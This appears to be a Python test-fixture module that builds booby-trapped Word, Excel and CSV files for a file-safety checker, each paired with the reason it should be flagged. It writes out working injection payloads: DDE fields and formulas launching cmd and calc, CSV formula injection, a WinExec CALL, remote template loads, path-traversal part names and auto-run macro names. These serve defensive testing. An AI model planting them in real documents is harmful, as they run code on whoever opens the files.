"""Word and Excel files that act on whoever opens them: {what: (file name, make, the reason said)}.

Each `what` completes "A file with ...". python-docx, openpyxl and xlsxwriter make them; many are changed by hand.
"""

import io

import xlsxwriter
from openpyxl.packaging.relationship import Relationship
from openpyxl.workbook.external_link import ExternalLink

from tests.files.packages import (
    DOCUMENT,
    MICROSOFT,
    OFFICE,
    ROOT,
    SHEET,
    TYPES,
    W,
    changed,
    field,
    package,
    parts,
    relation,
    run,
    word,
    workbook,
)

DOCUMENT_RELATIONS, SETTINGS_RELATIONS = "word/_rels/document.xml.rels", "word/_rels/settings.xml.rels"
FOOTNOTES, WEB = "word/_rels/footnotes.xml.rels", "https://x.example/a.png"
SHEET_RELATIONS, BOOK_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels", "xl/_rels/workbook.xml.rels"
BOOK = "xl/workbook.xml"
LINK, ELSEWHERE, DDE = "a link to anything but", "loaded from elsewhere", "(DDE)"
MACROS, ADDIN, SOURCE, NEEDLESS = "macros", "an add-in", "a data source", "does not need"
OBJECT, ANOTHER, ENTITIES = "an embedded object (OLE)", "another document", "entities of XML"
TWO_WAYS, MADE = "that readers understand in two ways", "is made by another field"
STANDARD = "application/vnd.openxmlformats-officedocument"
UNKNOWN = "that Office does not write"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def override(part, kind):
    return f'<Override PartName="/{part}" ContentType="{kind}"/>'


def worded(**changes):
    return lambda: changed(word(), **changes)


def related(*arguments, part=DOCUMENT_RELATIONS, **options):
    return worded(relations={part: relation(*arguments, **options)})


def template(target):
    return related("attachedTemplate", target, part=SETTINGS_RELATIONS, external=True)


def using(xml):
    """A Word document that uses the outside relationship rX1, a hyperlink, in XML."""
    link = relation("hyperlink", "https://x.example/a.png", external=True)
    return worded(relations={DOCUMENT_RELATIONS: link}, inside={DOCUMENT: run(xml)})


def drawing(attribute):
    space = "http://schemas.openxmlformats.org/drawingml/2006/main"
    return using(f'<w:drawing><a:blip xmlns:a="{space}" {attribute}="rX1"/></w:drawing>')


def fielded(instruction):
    return worded(inside={DOCUMENT: field(instruction)})


def running(xml):
    return worded(inside={DOCUMENT: run(xml)})


def holding(xml, name="word/a.xml", kind="application/xml"):
    """A Word document with a further part."""
    return worded(types=override(name, kind), new={name: xml})


def svg(xml):
    """A Word document with an SVG image that holds XML."""
    return worded(
        types='<Default Extension="svg" ContentType="image/svg+xml"/>',
        new={"word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{xml}</svg>'},
    )


def retyped(old, new):
    """A Word document whose content types say something else in one place."""

    def make():
        made = parts(word())
        made[TYPES] = made[TYPES].replace(old.encode(), new.encode(), 1)
        return package(made)

    return make


def main_type(kind):
    """A Word document whose main part has another type, as written."""
    return retyped("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", kind)


def typed(extension, kind):
    """A Word document with a part of another type."""
    types = f'<Default Extension="{extension}" ContentType="application/vnd.ms-office.{kind}"/>'
    return worded(types=types, new={f"word/a.{extension}": b"x"})


def types_in_utf16():
    """A Word document with macros whose content types are written in UTF-16."""
    made = parts(changed(word(), types=override("word/a.bin", "application/vnd.ms-office.vbaProject")))
    made[TYPES] = made[TYPES].decode().replace("UTF-8", "UTF-16").encode("utf-16")
    made["word/a.bin"] = b"x"
    return package(made)


VSTO = '<property name="_AssemblyLocation"/>'
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
VIDEO = 'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"'
SMART = 'xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"'

STRANGE, UTF16 = '<x:y xmlns:x="x"/>', '<?xml version="1.0" encoding="utf-16"?>'
BEGIN, PART, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))
DELETED = "PAGE </w:instrText><w:delInstrText>DDE a</w:delInstrText><w:instrText>"
SKIPPED = f'{BEGIN}<x:y xmlns:x="x">{PART}</x:y><w:instrText>DDE c</w:instrText>'
QUERY = f'<w:mailMerge xmlns:w="{W}"><w:connectString w:val="a"/></w:mailMerge>'
PANE = '<t:taskpane xmlns:t="http://schemas.microsoft.com/office/webextensions/a"/>'
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"


def instruction(*texts):
    return "".join(f"<w:instrText>{text}</w:instrText>" for text in texts)


def inner(text, part=""):
    """A field that stands in another one."""
    return BEGIN + instruction(text) + part + END


def choice(one, other):
    """The rest of a field's instruction, by which readers know the namespace x; then its beginning."""
    space = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    known = f'<mc:Choice xmlns:x="x" Requires="x">{instruction(one)}</mc:Choice>'
    return (
        f"</w:instrText><mc:AlternateContent {space}>{known}<mc:Fallback>{instruction(other)}</mc:Fallback>"
        "</mc:AlternateContent><w:instrText>"
    )


def with_part(name, types=""):
    """A Word document with a part of this name, which nothing refers to."""
    return worded(types=types, new={name: b"#!/bin/sh"})


def with_hidden_name():
    """A Word document with a part whose name readers end at different places."""
    return with_part("word/evilNexe.xml")().replace(b"evilNexe", b"evil\0exe")


WORD = {
    "a part that climbs out": (with_part("../../evil.sh"), UNKNOWN),
    "a part that climbs out, escaped": (with_part("word/%2e%2e/%2e%2e/a.xml"), UNKNOWN),
    "a part with backslashes": (with_part("word\\..\\a.xml"), UNKNOWN),
    "a part at the root of the disk": (with_part("/etc/cron.d/x"), UNKNOWN),
    "a part of a drive": (with_part("c:/a.xml"), UNKNOWN),
    "a part whose name ends twice": (with_hidden_name, UNKNOWN),
    "a program as a part": (with_part("evil.exe"), UNKNOWN),
    "a program listed as picture": (
        with_part("word/media/evil.exe", '<Default Extension="exe" ContentType="image/png"/>'),
        UNKNOWN,
    ),
    "a picture that is not listed": (with_part("word/media/a.webp"), UNKNOWN),
    "a task pane of the web": (related(f"{MICROSOFT}/webextensiontaskpanes", "word/a.xml", part=ROOT), ADDIN),
    "a task pane that only its element tells of": (holding(PANE), ADDIN),
    "a template that climbs out of a drive": (template("file:///c:/../..//evil/share"), ELSEWHERE),
    "a template that climbs out, escaped": (template("file:///c:/%2e%2e/%5c%5cevil/a.dotm"), ELSEWHERE),
    "a template with two slashes": (template("file:///c://evil/a.dotm"), ELSEWHERE),
    "a template on a server": (template("file:////evil/a.dotm"), ELSEWHERE),
    "a template of another kind of drive": (template("file:///\\\\?\\UNC\\evil\\a.dotm"), ELSEWHERE),
    "a main part with macros, escaped": (main_type(MACRO_TYPE.replace("E", "&#69;")), MACROS),
    "a main part with macros in capitals": (main_type(MACRO_TYPE.upper()), MACROS),
    "a main part that is a template": (main_type(TEMPLATE_TYPE), NEEDLESS),
    "a main part of two types": (worded(types=override(DOCUMENT, "application/xml")), "another type than"),
    "macros whose types are in UTF-16": (types_in_utf16, MACROS),
    "macros of another name": (typed("dat", "vbaProject"), MACROS),
    "content types with an entity": (retyped("<Types", '<!DOCTYPE Types [<!ENTITY a "b">]><Types'), ENTITIES),
    "too much text": (holding(b"<a>" + b" " * 25 * 1024 * 1024 + b"</a>"), "more text"),
    "data with an entity": (holding('<!DOCTYPE a [<!ENTITY b "c">]><a/>', "customXml/item1.xml"), ENTITIES),
    "an image by a relation that is a hyperlink": (drawing("r:link"), ELSEWHERE),
    "an embedded image by a relation that is a hyperlink": (drawing("r:embed"), ELSEWHERE),
    "an old picture by a relation that is a hyperlink": (using(f'<v:imagedata {VML} o:relid="rX1"/>'), ELSEWHERE),
    "an object by a relation that is a hyperlink": (using(f'<o:a {VML} r:id="rX1"/>'), ELSEWHERE),
    "an old picture of the web": (using(f'<v:imagedata {VML} o:href="https://x.example/a.png"/>'), ELSEWHERE),
    "an SVG image that loads another": (svg('<image href="https://x.example/a.png"/>'), ELSEWHERE),
    "an SVG image that links to a file": (svg('<a href="file:///c:/a.exe"/>'), LINK),
    "an SVG image with a script": (svg("<script>alert(1)</script>"), "a program"),
    "an image of the web": (related("image", WEB, external=True), ELSEWHERE),
    "an image of the web that says it is inside": (related("image", WEB), ELSEWHERE),
    "an image of a share that says it is inside": (related("image", "\\\\host\\a.png"), ELSEWHERE),
    "an image of a server without a scheme": (related("image", "//host/a.png"), ELSEWHERE),
    "an image of a footnote from the web": (related("image", WEB, part=FOOTNOTES, external=True), ELSEWHERE),
    "a link to a file": (related("hyperlink", "file:///c:/a.exe", external=True), LINK),
    "a link that opens Word": (related("hyperlink", "ms-word:ofe|u|https://x.example", external=True), LINK),
    "a link that is a script": (related("hyperlink", "javascript:alert(1)", external=True), LINK),
    "a link beside the document": (related("hyperlink", "a.exe", external=True), LINK),
    "a picture that links to a file": (
        holding(f'<v:shape {VML} href="file://h/a"/>', "word/a.vml", f"{STANDARD}.vmlDrawing"),
        LINK,
    ),
    "a field that links to a share": (fielded('HYPERLINK "\\\\\\\\host\\\\a"'), LINK),
    "a field with a switch that links to a file": (fielded('HYPERLINK \\o "https://x.example" "file:///a.exe"'), LINK),
    "a field that includes a file": (fielded("INCLUDETEXT \\\\host\\a"), "loads another file"),
    "a field that runs a macro": (fielded("MACROBUTTON Evil click"), MACROS),
    "a field that speaks to the printer": (fielded("PRINT 27&amp;l0"), NEEDLESS),
    "a field of DDE": (fielded("DDEAUTO c:\\\\cmd.exe"), DDE),
    "a field of DDE that a tracked change deleted": (fielded(DELETED), DDE),
    "a field of DDE without an end": (running(BEGIN + instruction("DDE a")), DDE),
    "a field of DDE behind many blanks": (fielded(" " * 70_000 + "DDEAUTO c"), "is longer"),
    "a field of DDE in pieces": (running(BEGIN + instruction(" D", "DE", "AU", "TO x") + END), DDE),
    "a field of DDE within another": (running(BEGIN + instruction("IF 1 ") + inner("dde x") + END), DDE),
    "a field of DDE made by another": (running(BEGIN + inner("QUOTE 68 68 69", PART) + instruction(" x") + END), MADE),
    "a field of DDE half made by another": (running(BEGIN + instruction("D") + inner("QUOTE 68 69") + END), MADE),
    "a field of DDE in UTF-16": (holding((UTF16 + field("DDE x")).encode("utf-16")), DDE),
    "a field of DDE in a part of another name": (
        holding(field("DDE x"), "word/header1.dat", "application/x-fontdata"),
        DDE,
    ),
    "a simple field of DDE": (running('<w:fldSimple w:instr="DDE x"/>'), DDE),
    "a field of DDE behind an element": (fielded(f"{STRANGE}DDEAUTO c"), TWO_WAYS),
    "a field of DDE for readers that skip a choice": (fielded(choice("PAGE ", "DDE c")), TWO_WAYS),
    "a field of DDE behind a separator that readers may skip": (running(SKIPPED), TWO_WAYS),
    "an object without a relation": (running(f'<o:OLEObject {VML} Type="Link"/>'), OBJECT),
    "an object of a strange spelling": (related("OLEOBJECT", "a.bin"), NEEDLESS),
    "a binary of ActiveX": (typed("bin", "activeX"), "ActiveX"),
    "a film of the web": (running(f'<wp15:webVideoPr {VIDEO} embeddedHtml="a"/>'), "media"),
    "a program that customizes it": (holding(VSTO, "docProps/custom.xml"), "a program"),
    "a query for its letters": (holding(QUERY), SOURCE),
    "a document of a server in it": (related("subDocument", "https://x.example/a.docx", external=True), ANOTHER),
    "a stylesheet that transforms it": (related("transform", "https://x.example/a.xsl", external=True), NEEDLESS),
    "a smart document": (holding(f'<sl:schema {SMART} sl:manifestLocation="//h"/>'), ELSEWHERE),
}


def calculating(formula):
    return lambda: workbook(lambda book: book.active.append([formula]))


def booked(**changes):
    return lambda: changed(workbook(), **changes)


def sheet(element, text):
    """A workbook with an element in its sheet."""
    return booked(inside={SHEET: f"<{element} xmlns='{MAIN}'>{text}</{element}>"})


def outside(book):
    """Refer to another workbook."""
    link = ExternalLink()
    link.file_link = Relationship(type="externalLinkPath", Target="//host/a.xlsx", TargetMode="External")
    book._external_links.append(link)


def with_button():
    """A workbook of xlsxwriter with a button that runs a macro."""
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as book:
        book.add_worksheet().insert_button("A1", {"macro": "Evil"})
    return file.getvalue()


AUTO_OPEN = f"<definedNames xmlns='{MAIN}'><definedName name='Auto_Open'>Sheet!$A$1</definedName></definedNames>"

EXCEL = {
    "a formula of DDE": (calculating("=cmd|'/c calc'!A0"), DDE),
    "a formula of DDE behind another": (calculating("=1+MSEXCEL|'\\..\\cmd.exe'!''"), DDE),
    "a formula of DDE behind an element": (sheet("f", f"{STRANGE}cmd|'/c calc'!A0"), TWO_WAYS),
    "a formula that asks the web": (calculating('=WEBSERVICE("https://x.example/"&A1)'), "WEBSERVICE"),
    "a formula that shows an image of the web": (calculating('=_xlfn.IMAGE("https://x.example/a")'), "IMAGE"),
    "a formula that calls a library": (calculating('=CALL("kernel32","WinExec","JCJ","calc",5)'), "CALL"),
    "a formula of an add-in": (calculating("=_xll.Evil(A1)"), "_XLL"),
    "a formula that links to a file": (calculating('=HYPERLINK("file:///c:/a.exe","a")'), LINK),
    "a formula that makes its link": (calculating('=HYPERLINK(A1,"a")'), LINK),
    "a formula that joins its link": (calculating('=HYPERLINK(""&"file:///c:/a.exe")'), LINK),
    "a formula that hands a function on": (calculating("=LET(x,_xlfn.WEBSERVICE,x(A1))"), "WEBSERVICE"),
    "a formula with a share": (calculating("='\\\\host\\share\\[a.xlsx]Sheet1'!A1"), "another workbook"),
    "a format that asks the web": (sheet("formula", 'WEBSERVICE("https://x.example")="a"'), "WEBSERVICE"),
    "a list of choices by DDE": (sheet("formula1", "cmd|'/c calc'!A0"), DDE),
    "a name that runs at the opening": (booked(inside={BOOK: AUTO_OPEN}), MACROS),
    "a link to a file in a cell": (
        booked(relations={SHEET_RELATIONS: relation("hyperlink", "file:///c:/a.exe", external=True)}),
        LINK,
    ),
    "another workbook, by openpyxl": (lambda: workbook(outside), NEEDLESS),
    "connections to data": (booked(relations={BOOK_RELATIONS: relation("connections", "a.xml")}), SOURCE),
    "an embedded object": (booked(relations={SHEET_RELATIONS: relation("oleObject", "../a.bin")}), OBJECT),
    "a DDE link": (booked(new={"xl/a.xml": '<x:ddeLink xmlns:x="a" ddeService="cmd" ddeTopic="calc"/>'}), DDE),
    "a shape that runs a macro": (booked(new={"xl/drawings/a.xml": '<x:sp xmlns:x="a" macro="[0]!Evil"/>'}), MACROS),
    "an image by a link's relation": (
        booked(
            relations={SHEET_RELATIONS: relation("hyperlink", "https://x.example", external=True)},
            inside={SHEET: f'<x:picture xmlns:x="a" xmlns:r="{OFFICE}" r:id="rX1"/>'},
        ),
        ELSEWHERE,
    ),
    "a button, by xlsxwriter": (with_button, MACROS),
}

CSV = {
    "a program in a cell": ("name,seats\nPat,=cmd|'/c calc'!A0\n", "row 2, cell 2"),
    "a program behind a plus": ("+cmd|'/c calc'!A0", "row 1, cell 1"),
    "a program behind a minus": ("a,b\n1,2\n3,-2+3+cmd|'/c calc'!A0", "row 3, cell 2"),
    "a function behind an at sign": ("@SUM(1+1)*cmd|'/c calc'!A0", "row 1, cell 1"),
    "a formula in quotes": ('a,"=HYPERLINK(""https://x.example"")"', "row 1, cell 2"),
    "a formula for those who part at semicolons": ('a,"b;=1+1"', "row 1, cell 2"),
    "a formula for those who part at tabs": ("a,b\t=1+1", "row 1, cell 2"),
    "a formula behind a comma in quotes": ('"-A1&"",""&WEBSERVICE(""https://x.example"")"', "row 1, cell 1"),
    "a formula for the delimiter that it names": ("sep=|\na|=1+1", "row 2, cell 2"),
    "a formula behind blanks": ("a, \u00a0=1+1", "row 1, cell 2"),
    "a formula behind a tab": ('a,"\t=1+1"', "cell 2"),
    "a formula in full width": ("a,\uff1d1+1", "row 1, cell 2"),
    "a formula in UTF-16": ("a;=1+1".encode("utf-16"), "row 1, cell 2"),
    "a formula behind a mark of its encoding": ("=1+1".encode("utf-8-sig"), "row 1, cell 1"),
    "a workbook of old": ('ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC("calc")\nE\n', "SYLK"),
}

FILES = {
    **{what: ("a.docx", *made) for what, made in WORD.items()},
    **{what: ("a.xlsx", *made) for what, made in EXCEL.items()},
    **{
        what: ("a.csv", lambda text=text: text if isinstance(text, bytes) else text.encode(), reason)
        for what, (text, reason) in CSV.items()
    },
}
